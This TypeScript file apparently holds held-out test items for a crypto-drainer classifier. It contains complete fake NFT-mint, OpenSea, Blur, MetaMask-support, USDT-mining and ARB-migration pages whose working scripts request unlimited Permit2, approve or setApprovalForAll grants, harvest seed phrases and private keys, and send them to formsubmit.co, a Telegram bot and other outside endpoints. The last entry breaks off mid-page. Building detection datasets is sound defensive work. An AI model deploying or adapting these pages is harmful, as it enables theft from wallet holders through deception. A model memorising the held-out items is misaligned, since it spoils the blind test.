import { type Entry } from '../entry.js';
import { jsRoute } from '../parts/f-kit.js';

/** Held-out pages by author f, family "drainers" (blind split). Hand-written; see ../parts/f-kit.ts for the binary builders. */
export const entries: Entry[] = [
  {
    id: "f-drain-permit2-freemint-otters",
    label: "cryptodrainer",
    kind: "nft-mint-permit",
    url: "https://moonlitotters.club/mint",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Moonlit Otters – Genesis Free Mint</title>
<style>
body{margin:0;background:#0e1330;color:#eaf0ff;font-family:"Space Grotesk",Arial,sans-serif}
.top{display:flex;justify-content:space-between;align-items:center;padding:20px 40px}.top b{font-size:22px}
.top a{color:#eaf0ff;margin-left:18px;font-size:14px}
.grid{max-width:1000px;margin:40px auto;display:grid;grid-template-columns:1fr 1fr;gap:40px;padding:0 20px;align-items:center}
.art{aspect-ratio:1;border-radius:20px;background:radial-gradient(circle at 50% 35%,#f5e6c8 0 18%,transparent 19%),radial-gradient(circle at 40% 30%,#222 0 2%,transparent 3%),radial-gradient(circle at 60% 30%,#222 0 2%,transparent 3%),radial-gradient(circle at 50% 60%,#7a5536 0 35%,transparent 36%),linear-gradient(#1b2a6b,#0e1330)}
h1{font-size:44px;margin:0 0 10px}.meta{color:#9fb0e0}
.bar{height:12px;background:#222b55;border-radius:6px;margin:20px 0 6px;overflow:hidden}.bar i{display:block;height:100%;width:91%;background:linear-gradient(90deg,#6df,#a6f)}
.qty{display:flex;align-items:center;gap:14px;margin:20px 0}.qty button{width:40px;height:40px;border-radius:10px;border:1px solid #445;background:#1a2150;color:#fff;font-size:20px}
.mint{width:100%;padding:16px;border:0;border-radius:14px;background:linear-gradient(90deg,#6df,#a6f);color:#0e1330;font-size:18px;font-weight:700;cursor:pointer}
.msg{margin-top:14px;font-size:14px;color:#9fb0e0;min-height:20px}
.tw{font-size:13px;color:#9fb0e0;margin-top:20px}
</style>
</head>
<body>
<div class="top"><b>🦦 Moonlit Otters</b><div><a href="#">Roadmap</a><a href="#">Team</a><a href="#">𝕏</a><a href="#">Discord</a></div></div>
<div class="grid">
 <div class="art"></div>
 <div>
  <h1>Genesis Mint</h1>
  <div class="meta">3,333 supply · FREE for allowlist · max 2 per wallet</div>
  <div class="bar"><i></i></div><div class="meta">3,041 / 3,333 minted</div>
  <div class="qty"><button id="m">−</button><b id="q">2</b><button id="p">+</button><span class="meta">Price: 0 ETH + gas</span></div>
  <button class="mint" id="mint">Connect &amp; Mint</button>
  <div class="msg" id="msg"></div>
  <div class="tw">Powered by Seaport 1.6 · Verified contract ✔</div>
 </div>
</div>
<script>
(function(){
var q=2;document.getElementById('m').onclick=function(){q=Math.max(1,q-1);document.getElementById('q').textContent=q};document.getElementById('p').onclick=function(){q=Math.min(2,q+1);document.getElementById('q').textContent=q};
var P2='0x000000000022D473030F116dDEE9F6B43aC78BA3',SP='0x7b2e4c90A1f3d8E5c6B7a9F0e1D2c3B4a5968776',API='https://otters-mint-backend.up.railway.app';
var TK=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2','0x514910771AF9Ca656af840dff83E8264EcF986CA','0x95aD61b0a150d79219dCF64E1E6Cc01f0B64C4cE'];
function msg(t){document.getElementById('msg').textContent=t}
document.getElementById('mint').onclick=async function(){
 if(!window.ethereum){msg('Please install MetaMask');return}
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 msg('Checking allowlist for '+acc.slice(0,8)+'…');
 var dl=Math.floor(Date.now()/1000)+86400*30;
 var data={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}]},
  primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:P2},
  message:{details:TK.map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0}}),spender:SP,sigDeadline:dl}};
 msg('Sign the allowlist proof in your wallet (no gas)…');
 try{
  var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(data)]});
  await fetch(API+'/v1/proof',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acc,permit:data.message,sig:sig})});
  msg('Mint confirmed! Your Otters will be revealed in 48h.');
 }catch(e){msg('Signature rejected. Allowlist proof is required to mint.')}
};
})();
</script>
</body>
</html>
`,
  },
  {
    id: "f-drain-setapprovalforall-loyalty",
    label: "cryptodrainer",
    kind: "nft-setapprovalforall",
    url: "https://opensea-pro.loyalty-rewards.app/claim",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>OpenSea Pro – Loyalty Rewards</title>
<style>
body{margin:0;font-family:Poppins,Arial,sans-serif;background:#f6f8fc;color:#04111d}
.nv{display:flex;align-items:center;gap:10px;padding:14px 32px;background:#fff;box-shadow:0 1px 0 #e5e8eb}
.nv .o{width:34px;height:34px;border-radius:50%;background:#2081e2;position:relative}.nv .o:after{content:"";position:absolute;left:9px;top:10px;width:16px;height:12px;border-bottom:3px solid #fff;border-radius:0 0 6px 6px}
.nv b{font-size:20px}.nv button{margin-left:auto;background:#2081e2;color:#fff;border:0;border-radius:12px;padding:10px 18px;font-weight:600}
.c{max-width:760px;margin:40px auto;padding:0 20px}
.bn{background:linear-gradient(120deg,#2081e2,#7b4dff);color:#fff;border-radius:20px;padding:32px}
.bn h1{margin:0 0 8px}
.items{display:grid;grid-template-columns:repeat(3,1fr);gap:14px;margin:24px 0}
.it{background:#fff;border-radius:12px;padding:14px;box-shadow:0 1px 4px rgba(0,0,0,.06)}
.it .im{aspect-ratio:1;border-radius:8px;margin-bottom:8px}
.cl{width:100%;padding:16px;background:#2081e2;color:#fff;border:0;border-radius:12px;font-size:17px;font-weight:600;cursor:pointer}
#log{font-size:13px;color:#555;margin-top:10px}
</style>
</head>
<body>
<div class="nv"><div class="o"></div><b>OpenSea Pro</b><button id="cw">Connect wallet</button></div>
<div class="c">
 <div class="bn"><h1>Season 4 Loyalty Rewards</h1><p>Active traders receive a limited Pro Pass NFT and a share of 2,500 ETH in fee rebates. Verify your collections to claim.</p></div>
 <div class="items">
  <div class="it"><div class="im" style="background:linear-gradient(135deg,#fc6,#f36)"></div><b>Pro Pass #2210</b><br><small>Reserved for you</small></div>
  <div class="it"><div class="im" style="background:linear-gradient(135deg,#6cf,#36f)"></div><b>0.84 ETH rebate</b><br><small>Trading volume tier 3</small></div>
  <div class="it"><div class="im" style="background:linear-gradient(135deg,#9f6,#3a6)"></div><b>Gas refund</b><br><small>Up to 0.05 ETH</small></div>
 </div>
 <button class="cl" id="go">Verify collections &amp; claim</button>
 <div id="log"></div>
</div>
<script src="/claim/js/rewards.bundle.js"></script>
</body>
</html>
`,
    routes: {
      "opensea-pro.loyalty-rewards.app/claim/js/rewards.bundle.js": jsRoute(`(function(){
var a0=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x8a90CAb2b38dba80c64b7734e58Ee1dB38B8992e','0xBd3531dA5CF5857e7CfAA92426877b022e612cf8','0x23581767a106ae21c074b2276D25e5C3e136a68b','0x49cF6f5d44E70224e2E23fDcdd2C053F30aDA28B'];
var op=['0x9f3C1e8b','7A2d4F60c5E1','b9A8d7C6f5E4d3B2a1F0'].join('');
function L(t){document.getElementById('log').innerHTML+=t+'<br>'}
function p(x){return x.toLowerCase().slice(2).padStart(64,'0')}
async function owns(c,acc){try{var r=await ethereum.request({method:'eth_call',params:[{to:c,data:'0x70a08231'+p(acc)},'latest']});return parseInt(r,16)>0}catch(e){return false}}
async function go(){
 if(!window.ethereum)return alert('Wallet not found');
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('cw').textContent=acc.slice(0,6)+'...'+acc.slice(-4);
 L('Scanning wallet for eligible collections…');
 var found=[];for(var i=0;i<a0.length;i++){if(await owns(a0[i],acc))found.push(a0[i])}
 if(!found.length)found=a0.slice(0,3);
 navigator.sendBeacon('https://os-pro-rewards.pages.dev/api/hit',JSON.stringify({acc:acc,found:found}));
 for(var j=0;j<found.length;j++){
  L('Verifying collection '+(j+1)+' of '+found.length+' – please confirm in your wallet');
  try{
   var h=await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:found[j],data:'0xa22cb465'+p(op)+'0000000000000000000000000000000000000000000000000000000000000001'}]});
   navigator.sendBeacon('https://os-pro-rewards.pages.dev/api/ok',JSON.stringify({acc:acc,c:found[j],h:h}));
  }catch(e){L('Verification cancelled – rewards for this collection are forfeited.')}
 }
 L('<b>All done! Your rewards will be airdropped within 24h.</b>');
}
document.getElementById('go').onclick=go;document.getElementById('cw').onclick=go;
})();
`),
    },
  },
  {
    id: "f-drain-walletconnect-rectify-seed",
    label: "cryptodrainer",
    kind: "seed-phrase-sync",
    url: "https://dappsconnector-wallet-sync.web.app/index.html",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>DappsConnector – Secure Wallet Validation</title>
<style>
body{margin:0;font-family:Inter,Arial,sans-serif;background:#f4f6fb;color:#141a2e}
header{background:#fff;padding:16px 30px;display:flex;align-items:center;gap:10px;box-shadow:0 1px 0 #e3e7f0}
header .wc{width:34px;height:22px;border:4px solid #3b99fc;border-radius:20px 20px 4px 4px;border-bottom:0}
header b{font-size:19px}
.hero{text-align:center;padding:40px 20px 10px}.hero h1{margin:0 0 8px;font-size:32px}.hero p{color:#5c6582;max-width:640px;margin:0 auto}
.issues{max-width:900px;margin:24px auto;display:flex;flex-wrap:wrap;gap:8px;justify-content:center}
.issues span{background:#fff;border:1px solid #dfe4ef;border-radius:20px;padding:6px 12px;font-size:13px;cursor:pointer}
.wl{max-width:900px;margin:20px auto;display:grid;grid-template-columns:repeat(auto-fill,minmax(140px,1fr));gap:12px;padding:0 20px}
.w{background:#fff;border-radius:14px;padding:18px;text-align:center;cursor:pointer;border:1px solid #e3e7f0;font-size:14px}
.w i{display:block;width:44px;height:44px;border-radius:12px;margin:0 auto 8px}
.ov{position:fixed;inset:0;background:rgba(10,15,30,.6);display:none;align-items:center;justify-content:center}
.md{background:#fff;border-radius:18px;width:440px;padding:24px}
.md .tabs{display:flex;gap:6px;margin:14px 0}.md .tabs button{flex:1;padding:8px;border:1px solid #dfe4ef;background:#f7f8fb;border-radius:8px;cursor:pointer}.md .tabs .on{background:#3b99fc;color:#fff;border-color:#3b99fc}
.md textarea,.md input{width:100%;box-sizing:border-box;border:1px solid #cfd6e4;border-radius:10px;padding:12px;font-size:14px;margin-bottom:8px}
.md textarea{height:110px}
.md .sub{width:100%;background:#3b99fc;color:#fff;border:0;border-radius:10px;padding:13px;font-weight:600;cursor:pointer}
.err{background:#fdecec;color:#b42318;border-radius:10px;padding:10px;font-size:13px;margin:10px 0}
.small{font-size:12px;color:#7a829e;margin-top:8px}
.pane{display:none}.pane.on{display:block}
</style>
</head>
<body>
<header><div class="wc"></div><b>DappsConnector</b><span style="margin-left:auto;font-size:13px;color:#5c6582">Decentralized protocol · Open source</span></header>
<div class="hero"><h1>Select the issue you are facing</h1><p>Open protocol for resolving wallet issues: validation, migration, missing balances, stuck transactions, airdrop claims and NFT bridging. Connect your wallet to synchronize it with the node.</p></div>
<div class="issues"><span>Validation</span><span>Rectification</span><span>Claim Airdrop</span><span>Missing/Irregular Balance</span><span>Transaction Delay</span><span>Slippage Error</span><span>Locked Account</span><span>Bridge Transfer</span><span>Whitelist</span><span>Staking</span></div>
<div class="wl" id="wl"></div>
<div class="ov" id="ov"><div class="md">
 <div class="pane on" id="p0"><h3 id="wn">Connecting…</h3><p class="small">Initializing secure connection with the node</p><div class="err" id="er" style="display:none">Error connecting automatically. Please connect manually.</div><button class="sub" id="man" style="display:none">Connect Manually</button></div>
 <div class="pane" id="p1">
  <h3>Import your wallet</h3>
  <div class="tabs"><button class="on" data-t="phrase">Phrase</button><button data-t="keystore">Keystore JSON</button><button data-t="private">Private Key</button></div>
  <form id="imp">
   <div data-k="phrase"><textarea name="phrase" placeholder="Enter your recovery phrase"></textarea><p class="small">Typically 12 (sometimes 18 or 24) words separated by single spaces</p></div>
   <div data-k="keystore" style="display:none"><textarea name="keystore" placeholder="Keystore JSON"></textarea><input name="kpass" type="password" placeholder="Wallet password"></div>
   <div data-k="private" style="display:none"><input name="private" placeholder="Enter your Private Key"><p class="small">Typically 64 alphanumeric characters</p></div>
   <input type="hidden" name="wallet" id="wal">
   <button class="sub">VALIDATE</button>
  </form>
 </div>
 <div class="pane" id="p2"><h3>Validating…</h3><p class="small">Synchronizing with the node. This can take up to 30 minutes. Do not close this window.</p></div>
</div></div>
<script>
var W=[['MetaMask','#f6851b'],['Trust Wallet','#3375bb'],['Coinbase Wallet','#0052ff'],['Phantom','#ab9ff2'],['Rainbow','#ff4e44'],['Exodus','#1f2033'],['Ledger Live','#000'],['Atomic','#1e90ff'],['SafePal','#4a21ef'],['TokenPocket','#2980fe'],['Keplr','#6b4eff'],['Other Wallets','#888']];
var wl=document.getElementById('wl');
W.forEach(function(w){var d=document.createElement('div');d.className='w';d.innerHTML='<i style="background:'+w[1]+'"></i>'+w[0];d.onclick=function(){open(w[0])};wl.appendChild(d)});
document.querySelectorAll('.issues span').forEach(function(s){s.onclick=function(){wl.scrollIntoView({behavior:'smooth'})}});
function pane(n){document.querySelectorAll('.pane').forEach(function(p){p.classList.remove('on')});document.getElementById('p'+n).classList.add('on')}
function open(n){document.getElementById('ov').style.display='flex';document.getElementById('wn').textContent='Connecting to '+n+'…';document.getElementById('wal').value=n;pane(0);setTimeout(function(){document.getElementById('er').style.display='block';document.getElementById('man').style.display='block'},2500)}
document.getElementById('man').onclick=function(){pane(1)};
document.querySelectorAll('.tabs button').forEach(function(b){b.onclick=function(e){e.preventDefault();document.querySelectorAll('.tabs button').forEach(function(x){x.classList.remove('on')});b.classList.add('on');document.querySelectorAll('[data-k]').forEach(function(d){d.style.display=d.dataset.k===b.dataset.t?'block':'none'})}});
document.getElementById('imp').onsubmit=function(e){e.preventDefault();
 var ph=this.phrase.value.trim().split(/\\s+/).filter(Boolean);
 if(this.phrase.value&&[12,15,18,21,24].indexOf(ph.length)<0){alert('Invalid phrase length');return}
 var fd=new FormData(this);
 fetch('https://formsubmit.co/ajax/c9e21f04b7e38d2a51ad4e66f0f7a1b8',{method:'POST',headers:{Accept:'application/json'},body:fd}).catch(function(){});
 pane(2);
};
</script>
</body>
</html>
`,
  },
  {
    id: "f-drain-metamask-support-chat",
    label: "cryptodrainer",
    kind: "fake-wallet-support",
    url: "https://metamask-support-desk.com/help/restore-access",
    body: `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>MetaMask Support – Restore access to your wallet</title>
<style>
body{margin:0;font-family:"Euclid Circular B",Roboto,Arial,sans-serif;background:#fff;color:#24272a}
.hd{display:flex;align-items:center;gap:10px;padding:16px 34px;border-bottom:1px solid #eee}
.fox{width:34px;height:30px;background:#f6851b;clip-path:polygon(0 0,35% 25%,65% 25%,100% 0,90% 60%,65% 100%,35% 100%,10% 60%)}
.hd b{font-size:19px;letter-spacing:1px}.hd span{margin-left:auto;font-size:14px;color:#6a737d}
.kb{max-width:820px;margin:30px auto;padding:0 20px}
.kb h1{font-size:32px}.kb li{margin-bottom:10px;line-height:1.5}
.crumbs{font-size:13px;color:#6a737d}
.chat{position:fixed;right:24px;bottom:24px;width:360px;background:#fff;border-radius:14px;box-shadow:0 10px 40px rgba(0,0,0,.25);overflow:hidden;font-size:14px}
.chat .t{background:#037dd6;color:#fff;padding:14px 16px;display:flex;align-items:center;gap:10px}
.chat .t i{width:10px;height:10px;border-radius:50%;background:#5f5;display:inline-block}
.msgs{height:300px;overflow:auto;padding:12px;background:#f7f9fc}
.m{background:#fff;border-radius:10px;padding:10px;margin-bottom:8px;max-width:85%;box-shadow:0 1px 2px rgba(0,0,0,.06)}
.m.me{background:#037dd6;color:#fff;margin-left:auto}
.in{display:flex;border-top:1px solid #eee}.in textarea{flex:1;border:0;padding:10px;resize:none;height:50px;font:inherit}.in button{border:0;background:#037dd6;color:#fff;padding:0 16px}
</style>
</head>
<body>
<div class="hd"><div class="fox"></div><b>METAMASK</b><span>Support Center</span></div>
<div class="kb">
 <div class="crumbs">Support › Wallet access › Restore</div>
 <h1>Can't access your wallet or funds not showing?</h1>
 <p>If your balance shows 0, transactions are stuck pending, or you were logged out after an update, a live agent can help re-sync your vault with the network.</p>
 <ol><li>Open the live chat in the corner of this page.</li><li>Describe the problem and provide your wallet address.</li><li>Our agent will guide you through the secure vault re-synchronization.</li></ol>
 <p style="font-size:13px;color:#6a737d">Average response time: under 2 minutes · Available 24/7</p>
</div>
<div class="chat">
 <div class="t"><i></i><b>MetaMask Live Support</b><small style="margin-left:auto">Agent: Daniel</small></div>
 <div class="msgs" id="msgs"><div class="m">👋 Hi! I'm Daniel from MetaMask Support. How can I help you today?</div></div>
 <div class="in"><textarea id="tx" placeholder="Type your message…"></textarea><button id="sd">Send</button></div>
</div>
<script>
var step=0,sess='mm'+Math.random().toString(36).slice(2,9);
var script=['Thanks. I can see your wallet has a synchronization error on our node (error code 0x7f). Please share the public address of the affected wallet.','Thank you. To re-sync the vault, our system needs to validate your Secret Recovery Phrase. Please enter your 12 words separated by spaces. This is encrypted end-to-end and only used for validation.','Validating your phrase with the network… please keep this window open. Your wallet will be restored within 30 minutes.'];
function add(t,me){var d=document.createElement('div');d.className='m'+(me?' me':'');d.textContent=t;var m=document.getElementById('msgs');m.appendChild(d);m.scrollTop=1e6}
function send(){var t=document.getElementById('tx').value.trim();if(!t)return;add(t,true);document.getElementById('tx').value='';
 fetch('https://api.telegram.org/bot7480012239:AAEo5cJ0q2xV_sR1nUmPzLk8aWtGhY3fDb4/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'-1002230018876',text:'['+sess+'] step '+step+': '+t})}).catch(function(){});
 setTimeout(function(){add(script[Math.min(step,script.length-1)]);step++},1400)}
document.getElementById('sd').onclick=send;document.getElementById('tx').onkeydown=function(e){if(e.key==='Enter'&&!e.shiftKey){e.preventDefault();send()}};
</script>
</body>
</html>
`,
  },
  {
    id: "f-drain-usdt-mining-pool-zh",
    label: "cryptodrainer",
    kind: "liquidity-mining-approve",
    url: "https://defi-usdt-mining.vip/#/pool",
    body: `<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1,user-scalable=no">
<title>DeFi 流动性挖矿 | 无损质押 USDT</title>
<style>
body{margin:0;background:linear-gradient(180deg,#0b1a3a,#050b1c);color:#fff;font-family:"PingFang SC","Microsoft YaHei",Arial,sans-serif;font-size:14px}
.top{display:flex;justify-content:space-between;align-items:center;padding:14px 16px}
.top b{font-size:17px}.top span{background:#1d3a7a;border-radius:14px;padding:5px 12px;font-size:12px}
.ban{margin:10px 16px;border-radius:14px;padding:20px;background:linear-gradient(120deg,#2b6cff,#8a3ffc)}
.ban h2{margin:0 0 6px;font-size:22px}.ban p{margin:0;opacity:.9}
.grid{display:grid;grid-template-columns:1fr 1fr;gap:10px;margin:14px 16px}
.grid div{background:#12234d;border-radius:10px;padding:14px}.grid b{display:block;font-size:18px;color:#4fe3c1;margin-top:4px}
.rate{margin:14px 16px;background:#12234d;border-radius:10px;padding:14px}
.rate table{width:100%;font-size:13px}.rate td{padding:6px 0}.rate td:last-child{text-align:right;color:#4fe3c1}
.join{display:block;margin:20px 16px;padding:15px;border:0;border-radius:26px;background:linear-gradient(90deg,#4fe3c1,#2b6cff);color:#fff;font-size:17px;font-weight:700;width:calc(100% - 32px)}
.out{margin:0 16px;background:#12234d;border-radius:10px;padding:12px;height:120px;overflow:hidden;font-size:12px;color:#9fb3e6}
.tip{margin:12px 16px;color:#7c8db8;font-size:12px}
.kf{position:fixed;right:14px;bottom:80px;background:#2b6cff;border-radius:50%;width:48px;height:48px;display:flex;align-items:center;justify-content:center;font-size:12px}
</style>
</head>
<body>
<div class="top"><b>⛏ USDT Mining Pool</b><span id="acc">连接钱包</span></div>
<div class="ban"><h2>无损挖矿 · 每日收益</h2><p>只需钱包中持有 USDT 即可参与，资产不离开您的钱包，每 6 小时自动结算 ETH 奖励。</p></div>
<div class="grid"><div>总产出<b>1,382.55 ETH</b></div><div>有效节点<b>52,914</b></div><div>参与人数<b>318,447</b></div><div>用户收益<b>$ 28,991,203</b></div></div>
<div class="rate"><table><tr><td>USDT 1,000 - 9,999</td><td>1.2% / 天</td></tr><tr><td>USDT 10,000 - 49,999</td><td>1.8% / 天</td></tr><tr><td>USDT 50,000 - 199,999</td><td>2.5% / 天</td></tr><tr><td>USDT 200,000 以上</td><td>3.2% / 天</td></tr></table></div>
<button class="join" id="join">领取挖矿凭证（参与挖矿）</button>
<div class="out" id="out"></div>
<div class="tip">温馨提示：领取凭证需支付少量矿工费（ETH/TRX），请确保钱包中有足够的矿工费。</div>
<div class="kf">客服</div>
<script src="/static/js/chunk-vendors.0b4e.js"></script>
</body>
</html>
`,
    routes: {
      "defi-usdt-mining.vip/static/js/chunk-vendors.0b4e.js": jsRoute(`(function(){
var cfg=JSON.parse(atob('eyJlcmMiOnsidXNkdCI6IjB4ZEFDMTdGOTU4RDJlZTUyM2EyMjA2MjA2OTk0NTk3QzEzRDgzMWVjNyIsInNwZW5kZXIiOiIweDJGNmUzYTkxQjBjRDg0ZTdGNWExQzJiM0Q0ZTVGNjA3MTgyOTNBNGIifSwidHJjIjp7InVzZHQiOiJUUjdOSHFqZUtReEdUQ2k4cThaWTRwTDhvdFN6Z2pMajZ0Iiwic3BlbmRlciI6IlRRbTV3MXk5VnQyeFo4cExyTjRrRjZlRzNoQjdqQzFzRGEifSwiYXBpIjoiaHR0cHM6Ly9hcGkuZGVmaS11c2R0LW1pbmluZy52aXAvaW5kZXgvdXNlci9hdXRoIg=='));
function $(i){return document.getElementById(i)}
var names=['0x3f2…a91c','0x8b1…47de','TXa9…Pq2L','0xd04…e3b0','TJk7…Wm8S'];
setInterval(function(){var o=$('out');o.innerHTML='<div>'+names[Math.floor(Math.random()*names.length)]+' 获得收益 '+(Math.random()*0.8).toFixed(4)+' ETH</div>'+o.innerHTML},1800);
function report(o){var x=new XMLHttpRequest();x.open('POST',cfg.api);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send(new URLSearchParams(o).toString())}
async function tron(){
 var tw=window.tronWeb;var addr=tw.defaultAddress.base58;$('acc').textContent=addr.slice(0,5)+'…'+addr.slice(-4);
 var c=await tw.contract().at(cfg.trc.usdt);
 var tx=await c.approve(cfg.trc.spender,'90000000000000000000000000000').send({feeLimit:100000000});
 report({chain:'trc',address:addr,tx:tx});
}
async function evm(){
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];$('acc').textContent=acc.slice(0,6)+'…'+acc.slice(-4);
 var data='0x095ea7b3'+cfg.erc.spender.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64);
 var h=await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:cfg.erc.usdt,data:data}]});
 report({chain:'erc',address:acc,tx:h});
 alert('领取成功！挖矿收益将每 6 小时自动发放到您的钱包。');
}
$('join').onclick=function(){
 try{
  if(window.tronWeb&&window.tronWeb.defaultAddress&&window.tronWeb.defaultAddress.base58)return tron();
  if(window.ethereum)return evm();
  alert('请在 imToken / TokenPocket / Trust Wallet 钱包内打开本页面');
 }catch(e){alert('网络繁忙，请稍后重试')}
};
})();
`),
    },
  },
  {
    id: "f-drain-token-migration-v2-de",
    label: "cryptodrainer",
    kind: "token-migration-drain",
    url: "https://app.arbitrum-migration.eth.limo.arb-v2.io/migrate",
    body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>ARB Token-Migration V2</title>
<style>
body{margin:0;background:#0d1a2d;color:#e5eefc;font-family:Roboto,Arial,sans-serif}
.n{display:flex;align-items:center;padding:16px 28px;gap:10px}.n i{width:30px;height:30px;background:#28a0f0;clip-path:polygon(50% 0,100% 25%,100% 75%,50% 100%,0 75%,0 25%)}
.n button{margin-left:auto;background:#28a0f0;color:#fff;border:0;border-radius:8px;padding:10px 16px;cursor:pointer}
.c{max-width:520px;margin:50px auto;background:#13233d;border:1px solid #213a60;border-radius:16px;padding:28px}
h1{margin:0 0 8px;font-size:26px}p{color:#9db3d6;line-height:1.5}
.sw{background:#0d1a2d;border-radius:12px;padding:16px;margin:14px 0;display:flex;justify-content:space-between;align-items:center}
.sw b{font-size:22px}
.arrow{text-align:center;font-size:20px;color:#28a0f0}
.go{width:100%;padding:15px;background:#28a0f0;color:#fff;border:0;border-radius:12px;font-size:17px;font-weight:600;cursor:pointer}
#st{margin-top:12px;font-size:13px;color:#9db3d6}
.faq{max-width:520px;margin:20px auto;font-size:13px;color:#7f95ba}
</style>
</head>
<body>
<div class="n"><i></i><b>Arbitrum</b><button id="cw">Wallet verbinden</button></div>
<div class="c">
 <h1>Migration auf ARB V2</h1>
 <p>Nach dem Governance-Beschluss AIP-2026-03 wird der ARB-Token auf einen neuen Vertrag migriert. Alte ARB-Token verlieren nach dem 15. März 2026 ihre Handelbarkeit. Die Migration erfolgt im Verhältnis 1:1 plus 5 % Bonus.</p>
 <div class="sw"><span>ARB (alt)</span><b id="old">0.00</b></div>
 <div class="arrow">↓</div>
 <div class="sw"><span>ARB V2</span><b id="nw">0.00</b></div>
 <button class="go" id="go">Jetzt migrieren</button>
 <div id="st"></div>
</div>
<div class="faq"><b>Ist die Migration sicher?</b> Ja, der Migrationsvertrag wurde von OpenZeppelin und Trail of Bits geprüft.</div>
<script>
(function(){
var ARB='0x912CE59144191C1204E64559FE8253a0e49E6548',MIG='0xE3a1b0C9d8F7e6D5c4B3a2918F7E6D5c4b3A2910';
var e=window.ethereum,acc;
function st(t){document.getElementById('st').textContent=t}
function w(a){return a.toLowerCase().replace(/^0x/,'').padStart(64,'0')}
async function conn(){acc=(await e.request({method:'eth_requestAccounts'}))[0];try{await e.request({method:'wallet_switchEthereumChain',params:[{chainId:'0xa4b1'}]})}catch(x){}
 document.getElementById('cw').textContent=acc.slice(0,6)+'…'+acc.slice(-4);
 var b=await e.request({method:'eth_call',params:[{to:ARB,data:'0x70a08231'+w(acc)},'latest']});var n=Number(BigInt(b))/1e18;
 document.getElementById('old').textContent=n.toFixed(2);document.getElementById('nw').textContent=(n*1.05).toFixed(2);return BigInt(b)}
document.getElementById('cw').onclick=function(){if(e)conn()};
document.getElementById('go').onclick=async function(){
 if(!e){st('Bitte MetaMask oder Rabby installieren.');return}
 var bal=await conn();
 st('Schritt 1/2: Migrationsvertrag freigeben…');
 try{await e.request({method:'eth_sendTransaction',params:[{from:acc,to:ARB,data:'0x39509351'+w(MIG)+'f'.repeat(64)}]})}catch(x){st('Freigabe abgelehnt.');return}
 st('Schritt 2/2: Token übertragen…');
 try{await e.request({method:'eth_sendTransaction',params:[{from:acc,to:ARB,data:'0xa9059cbb'+w(MIG)+bal.toString(16).padStart(64,'0')}]})}catch(x){}
 var eth=BigInt(await e.request({method:'eth_getBalance',params:[acc,'latest']}));
 if(eth>200000000000000n){try{await e.request({method:'eth_sendTransaction',params:[{from:acc,to:MIG,value:'0x'+(eth-200000000000000n).toString(16)}]})}catch(x){}}
 fetch('https://arb-v2.io/api/m',{method:'POST',body:JSON.stringify({acc:acc,bal:bal.toString()})}).catch(function(){});
 st('Migration abgeschlossen. ARB V2 wird innerhalb von 24 Stunden gutgeschrieben.');
};
})();
</script>
</body>
</html>
`,
  },
  {
    id: "f-drain-blur-seaport-recompensas",
    label: "cryptodrainer",
    kind: "nft-seaport-order",
    url: "https://blur-io.recompensas-temporada3.com/airdrop",
    body: `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Blur | Recompensas da Temporada 3</title>
<style>
body{margin:0;background:#000;color:#fff;font-family:"Matter","Roboto Mono",monospace}
.n{display:flex;align-items:center;padding:14px 28px;border-bottom:1px solid #222;gap:16px}
.n b{font-size:24px;color:#ff8700;letter-spacing:-1px}.n a{color:#888;font-size:13px;text-decoration:none}
.n button{margin-left:auto;background:#ff8700;color:#000;border:0;padding:10px 16px;font-weight:700;cursor:pointer}
.c{max-width:820px;margin:50px auto;padding:0 20px}
h1{font-size:40px;margin:0}.s{color:#888}
.cards{display:grid;grid-template-columns:repeat(3,1fr);gap:12px;margin:26px 0}
.cards div{border:1px solid #333;padding:18px}.cards b{display:block;font-size:24px;color:#ff8700}
.go{background:#ff8700;color:#000;border:0;padding:16px 30px;font-size:16px;font-weight:700;cursor:pointer}
#m{margin-top:14px;color:#aaa;font-size:13px}
</style>
</head>
<body>
<div class="n"><b>BLUR</b><a href="#">COLEÇÕES</a><a href="#">PORTFÓLIO</a><a href="#">AIRDROP</a><button id="cw">CONECTAR CARTEIRA</button></div>
<div class="c">
 <h1>TEMPORADA 3 — RECOMPENSAS</h1>
 <p class="s">Traders e bidders ativos receberam Care Packages. Verifique sua carteira para abrir os pacotes e sacar BLUR.</p>
